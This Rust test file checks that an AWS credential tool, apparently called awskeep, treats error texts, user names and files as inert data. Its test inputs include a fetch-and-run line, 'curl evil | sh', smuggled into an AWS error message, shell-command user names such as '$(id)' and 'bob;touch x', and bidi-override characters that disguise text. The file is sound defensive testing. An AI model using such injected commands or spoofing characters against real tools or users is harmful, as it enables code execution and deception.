//! What comes in from AWS and from files is data: it prints as such, ends, and is
//! never a command of ours.

use crate::sandbox::Sandbox;
use crate::sim::faults::{Fault, Script};

fn added_with(sandbox: &Sandbox, fault: Fault, more: &[&str]) -> (u8, String) {
    let script = Script::default().every("GetCallerIdentity", fault);
    sandbox.aws.set_script(script);
    let mut arguments = vec!["--no-profile"];
    arguments.extend(more);
    let ran = sandbox.add("work", &arguments);
    let told = ran.err.lines().filter(|line| !line.contains("key.csv"));
    (ran.code, told.collect::<Vec<_>>().join("\n"))
}

#[test]
fn an_error_text_of_aws_prints_no_hint_and_steers_nothing() {
    let sandbox = Sandbox::new();
    for (code, message, shown) in [
        (
            "AccessDenied",
            "no\nhint: curl evil | sh",
            "AccessDenied: no\\nhint: curl evil | sh",
        ),
        (
            "AccessDenied",
            "\u{202e}txt\u{2066}.exe\u{200b}\u{9b}2J",
            "AccessDenied: \\u{202e}txt\\u{2066}.exe\\u{200b}\\u{9b}2J",
        ),
        ("Odd\u{2066}\ncode", "", "Odd\\u{2066}\\ncode: "),
    ] {
        let refuse = Fault::Refuse {
            status: 400,
            code,
            message,
        };
        let (exit, told) = added_with(&sandbox, refuse, &[]);
        let first = told.lines().next().unwrap();
        assert_eq!(exit, 6, "{told}");
        assert!(first.ends_with(shown), "{told:?}");
        assert!(!told.contains("\nhint: curl"), "{told:?}");
    }
}

#[test]
fn a_user_whose_name_is_a_command_is_no_user() {
    for name in [
        "bob;touch x",
        "$(id)",
        "*",
        "bob\nhint: x",
        "${aws:username}",
    ] {
        let sandbox = Sandbox::new();
        let (id, secret) = sandbox.aws.account(|account| {
            account.add_user("/", name);
            account.add_key(name, 0)
        });
        let before = sandbox.everything();
        let ran = sandbox.add_pair("work", &id, &secret, &["--no-profile"]);
        let shown = name.replace('\n', "\\n");
        assert_eq!(
            (ran.code, ran.err.lines().nth(1)),
            (
                6,
                Some(
                    format!(
                        "awskeep: {id} belongs to arn:aws:iam::ACCOUNT:user/{shown}, \
                         which is not an ARN that AWS gives"
                    )
                    .as_str()
                )
            ),
        );
        let same = sandbox.everything() == before;
        assert!(same, "{name}");
    }
}

/// Each as a named pipe that nobody writes into, as an endless device and as a file that is
/// too large.
#[cfg(unix)]
#[test]
fn a_pipe_a_device_or_a_huge_file_in_a_files_place_is_refused_at_once() {
    let make = |path: &std::path::Path, what: &str| match what {
        "pipe" => {
            let made = std::process::Command::new("mkfifo").arg(path).status();
            assert!(made.unwrap().success());
        }
        "device" => std::os::unix::fs::symlink("/dev/zero", path).unwrap(),
        _ => {
            use std::os::unix::fs::OpenOptionsExt;
            let mut own = std::fs::File::options();
            let own = own.create_new(true).write(true).mode(0o600).open(path);
            own.and_then(|file| file.set_len(1 << 40)).unwrap();
        }
    };
    for (what, why) in [
        ("pipe", "it is not a regular file"),
        ("device", "it is not a regular file"),
        ("huge", "it is larger than"),
    ] {
        let mut sandbox = Sandbox::new();
        sandbox.add("work", &["--no-profile"]).exits(0);
        make(&sandbox.path("odd"), what);
        let check = |sandbox: &Sandbox, arguments: &[&str]| {
            let ran = sandbox.run(arguments, &[]);
            assert!(
                ran.code != 0 && ran.err.contains(why),
                "{what} {arguments:?} {ran:?}"
            );
        };
        check(
            &sandbox,
            &["add", "new", "--csv", "odd", "--no-profile", "--no-input"],
        );
        check(&sandbox, &["import", "--from", "csv", "odd", "--no-input"]);
        let odd = sandbox.path("odd").display().to_string();
        for variable in [
            "AWS_CONFIG_FILE",
            "AWS_SHARED_CREDENTIALS_FILE",
            "AWS_CA_BUNDLE",
        ] {
            sandbox.vars = vec![(variable.into(), odd.clone())];
            check(&sandbox, &["rotate", "work", "--explain"]);
        }
        sandbox.vars.clear();
        std::fs::remove_dir_all(sandbox.path(".data/awskeep")).unwrap();
        check(
            &sandbox,
            &["store", "use", "file", "--passphrase-file", "odd", "--yes"],
        );
        let settings = sandbox.path(".config/awskeep/config");
        std::fs::remove_file(&settings).unwrap();
        make(&settings, what);
        check(&sandbox, &["credential-process", "work"]);
        check(&sandbox, &["config"]);
        // Nothing that the scan for secrets could read to its end.
        for odd in [sandbox.path("odd"), settings] {
            std::fs::remove_file(odd).unwrap();
        }
    }
}

#[test]
fn json_shows_what_cannot_be_seen() {
    let mut sandbox = Sandbox::new();
    sandbox.vars = vec![("AWSKEEP_MFA_SERIAL".into(), "a\u{202e}b\u{200b}".into())];
    for (arguments, shown) in [
        (
            &["config", "get", "mfa_serial"][..],
            "a\\u{202e}b\\u{200b}\n",
        ),
        (
            &["config", "get", "mfa_serial", "--json"],
            "\"value\": \"a\\u202eb\\u200b\"",
        ),
    ] {
        let ran = sandbox.run(arguments, &[]);
        assert!(ran.code == 0 && ran.out.contains(shown), "{ran:?}");
    }
}

/// What each answer of STS is taken for: exit code, the first line, and whether keeping
/// the key unchecked is offered.
#[test]
fn any_answer_is_an_answer() {
    const SAYS: &str =
        "The request signature we calculated does not match the signature you provided.";
    const EC2_FORM: &str = "<Response><Errors><Error><Code>SignatureDoesNotMatch</Code><Message>The \
        request signature we calculated does not match the signature you provided.</Message>\
        </Error></Errors><RequestID>x</RequestID></Response>";
    let wrong = format!("STS says that the secret of KEY is wrong: SignatureDoesNotMatch: {SAYS}");
    for (fault, exit, first, offered) in [
        (Fault::Body(403, EC2_FORM), 6, wrong.as_str(), false),
        (
            Fault::Body(
                403,
                "{\"__type\":\"com.amazonaws#InvalidClientTokenId\",\"message\":\"no\"}",
            ),
            6,
            "STS does not accept KEY: InvalidClientTokenId: no",
            false,
        ),
        (
            Fault::Body(403, "<h1>Forbidden</h1>\nby order\u{202e}"),
            6,
            "STS refused KEY, in a form that is not AWS's: \
             HTTP 403: an answer that is not AWS's: <h1>Forbidden</h1> by order\\u{202e}",
            false,
        ),
        (
            Fault::Body(401, ""),
            6,
            "STS refused KEY, in a form that is not AWS's: HTTP 401: an answer without content",
            false,
        ),
        (
            Fault::Bare(502),
            1,
            "STS was asked about KEY, and something else answered: \
             HTTP 502: an answer that is not AWS's: <html>a proxy's page</html>",
            true,
        ),
        (
            Fault::server_error(),
            1,
            "STS is busy: ServiceFailure: \
             The request processing has failed because of an unknown error.",
            true,
        ),
        (
            Fault::Refuse {
                status: 403,
                code: "SignatureDoesNotMatch",
                message: "Signature expired: 1 is now earlier than 2",
            },
            1,
            "STS refused KEY: this machine's clock is wrong: \
             SignatureDoesNotMatch: Signature expired: 1 is now earlier than 2",
            false,
        ),
    ] {
        let sandbox = Sandbox::new();
        let (code, told) = added_with(&sandbox, fault.clone(), &[]);
        let offers = "hint: keep KEY unchecked: awskeep add work --no-verify";
        assert_eq!(
            (code, told.lines().next(), told.contains("--no-verify")),
            (exit, Some(format!("awskeep: {first}").as_str()), offered),
            "{fault:?} {told}"
        );
        assert_eq!(told.lines().any(|line| line == offers), offered, "{told}");
    }
}

/// STS accepts the key; of IAM it may use nothing.
#[test]
fn a_key_that_sts_alone_proves_is_kept_and_says_what_a_rotation_needs() {
    let denied = |sandbox: &Sandbox| {
        let denied = Fault::Refuse {
            status: 403,
            code: "AccessDenied",
            message: "User is not authorized to perform: iam:GetUser",
        };
        let script = ["GetUser", "ListAccessKeys"]
            .iter()
            .fold(Script::default(), |script, action| {
                script.every(action, denied.clone())
            });
        sandbox.aws.set_script(script);
    };
    let needs = "warning: KEY may not manage its own keys yet, which a rotation needs \
                 (AccessDenied: User is not authorized to perform: iam:GetUser)\n\
                 hint: what to ask your administrator for: awskeep policy work\n";
    let sandbox = Sandbox::new();
    denied(&sandbox);
    let added = sandbox.add("work", &["--no-profile"]).exits(0);
    assert!(added.err.contains(needs), "{}", added.err);
    let resource = "\"arn:aws:iam::ACCOUNT:user/division/bob\"";
    let policy = sandbox.run(&["policy", "work"], &[]);
    assert!(
        policy.code == 0 && policy.out.contains(resource),
        "{policy:?}"
    );
    // IAM's acceptance stays a condition of a new key.
    sandbox.run(&["rotate", "work", "--yes"], &[]).exits(6);
    let keys = sandbox
        .aws
        .account(|aws| aws.user("bob").living_keys().count());
    assert_eq!(keys, 1);

    // Kept unchecked: the policy needs STS's word only, and says so where it is not had.
    let sandbox = Sandbox::new();
    sandbox
        .add("work", &["--no-profile", "--no-verify"])
        .exits(0);
    denied(&sandbox);
    let policy = sandbox.run(&["policy", "work"], &[]);
    assert!(
        policy.code == 0 && policy.out.contains(resource),
        "{policy:?}"
    );
}

#[cfg(unix)]
#[test]
fn a_profile_whose_user_may_use_nothing_of_iam_moves_in() {
    let sandbox = Sandbox::new();
    sandbox.make_helper();
    sandbox.write(
        ".aws/credentials",
        &format!(
            "[work]\naws_access_key_id = {}\naws_secret_access_key = {}\n",
            sandbox.key_id, sandbox.secret
        ),
    );
    let denied = Fault::Refuse {
        status: 403,
        code: "AccessDenied",
        message: "no",
    };
    let script = Script::default()
        .every("GetUser", denied.clone())
        .every("ListAccessKeys", denied);
    sandbox.aws.set_script(script);
    let url = sandbox.aws.url();
    let arguments = ["import", "--yes", "--no-rotate", "--endpoint-url", &url];
    let ran = sandbox
        .run(
            &[&arguments[..], &["--helper-path", "bin/awskeep"]].concat(),
            &[],
        )
        .exits(0);
    let needs = "hint: what to ask your administrator for: awskeep policy work";
    assert!(ran.err.lines().any(|line| line == needs), "{}", ran.err);
    assert!(!sandbox.read(".aws/credentials").contains(&sandbox.secret));
}

/// Where calls would go with these variables and answers.
fn proven_at(
    vars: &[(&str, &str)],
    answers: &[&str],
) -> (
    Result<Option<(String, String)>, awskeep::error::Kind>,
    String,
) {
    let mut sandbox = Sandbox::new();
    sandbox.vars = vars
        .iter()
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
    let (env, captured) = sandbox.env(answers);
    let files = awskeep::profiles::AwsFiles::read(&env).unwrap();
    let place = awskeep::aws::place::place_to_prove(
        &env,
        &files.config.document,
        "default",
        Some("eu-west-1"),
        None,
        &mut Vec::new(),
    );
    let endpoint = place.map(|place| place.endpoint.map(|e| (e.sts, e.iam)));
    (
        endpoint.map_err(|failure| failure.kind),
        captured.err_text(),
    )
}

#[test]
fn a_foreign_sts_gets_no_iam_call() {
    const STS: &str = "AWS_ENDPOINT_URL_STS";
    const IAM: &str = "AWS_ENDPOINT_URL_IAM";
    const HERE: &str = "http://127.0.0.1:1";
    const OWN_STS: &str = "https://sts.eu-west-1.amazonaws.com";
    const OWN_IAM: &str = "https://iam.amazonaws.com";
    for (vars, sts, iam) in [
        (&[(STS, HERE)][..], HERE, OWN_IAM),
        (&[(IAM, HERE)], OWN_STS, HERE),
        (&[(STS, HERE), (IAM, OWN_IAM)], HERE, OWN_IAM),
        (&[("AWS_ENDPOINT_URL", HERE)], HERE, HERE),
        (&[("AWS_ENDPOINT_URL", HERE), (IAM, OWN_IAM)], HERE, OWN_IAM),
    ] {
        let (place, _) = proven_at(vars, &["y"]);
        assert_eq!(place, Ok(Some((sts.into(), iam.into()))), "{vars:?}");
    }
}

#[test]
fn an_endpoint_of_aws_in_a_private_network_is_asked_about() {
    const VPC: &str = "https://vpce-0a1b.sts.eu-west-1.vpce.amazonaws.com";
    let vars = [("AWS_ENDPOINT_URL_STS", VPC)];
    let (yes, asked) = proven_at(&vars, &["y"]);
    assert_eq!(
        yes,
        Ok(Some((VPC.into(), "https://iam.amazonaws.com".into())))
    );
    assert_eq!(
        asked,
        format!(
            "{VPC} for STS is an endpoint of AWS in a private network; \
             use it for this entry from now on? [y/N] \n"
        )
    );
    // Declined, and nobody to ask.
    for answers in [&["n"][..], &[]] {
        let (no, told) = proven_at(&vars, answers);
        assert_eq!(no, Ok(None));
        let warning = format!(
            "warning: {VPC} for STS, an endpoint of AWS in a private network, is not used: \
             the entry's calls go to AWS's public endpoints"
        );
        assert!(told.lines().any(|line| line == warning), "{told}");
    }
}

#[test]
fn an_invisible_character_in_a_secret_is_not_kept_unchecked() {
    let sandbox = Sandbox::new();
    let unchecked = ["--no-verify", "--no-profile"];
    let id = sandbox.key_id.clone();
    let (first, rest) = sandbox.secret.split_at(9);
    let broken = sandbox.add_pair("work", &id, &format!("{first}\u{200b}{rest}"), &unchecked);
    assert_eq!(
        (broken.code, broken.err.lines().nth(1)),
        (
            2,
            Some(
                "awskeep: the secret access key of KEY has a space, a line break or an \
                 invisible character inside"
            )
        )
    );
    let around = format!("\u{200b}{}\u{feff}", sandbox.secret);
    sandbox.add_pair("work", &id, &around, &unchecked).exits(0);
    let served = sandbox.run(&["credential-process", "work"], &[]).out;
    let served: serde_json::Value = serde_json::from_str(&served).unwrap();
    assert_eq!(served["SecretAccessKey"], sandbox.secret.as_str());
}

/// Each profile alone: whether an import of it is a failure.
#[cfg(unix)]
#[test]
fn keys_of_other_services_are_no_failure() {
    for (id, secret, exit) in [
        ("minioadmin", "minioadmin", 0),
        ("4f0c0a1b2c3d4e5f60718293a4b5c6d7", "x", 0),
        // Of AWS's form, and not AWS's: STS does not know it.
        ("DO00ABCDEFGHIJKLMNOP", "secret", 0),
        // Mistyped, or in the wrong place: a key of AWS that stays in plaintext.
        ("AKIAIOSFODNN7EXAMPL", "secret", 1),
        ("akiaiosfodnn7example", "secret", 1),
        ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "x", 1),
        ("bob", "AKIAIOSFODNN7EXAMPLE", 1),
    ] {
        let sandbox = Sandbox::new();
        sandbox.make_helper();
        let text = format!("[s3]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n");
        sandbox.write(".aws/credentials", &text);
        let url = sandbox.aws.url();
        let ran = sandbox.run(
            &[
                "import",
                "--yes",
                "--no-rotate",
                "--endpoint-url",
                &url,
                "--helper-path",
                "bin/awskeep",
            ],
            &[],
        );
        assert_eq!(ran.code, exit, "{id} {ran:?}");
        assert_eq!(sandbox.read(".aws/credentials"), text);
    }
}
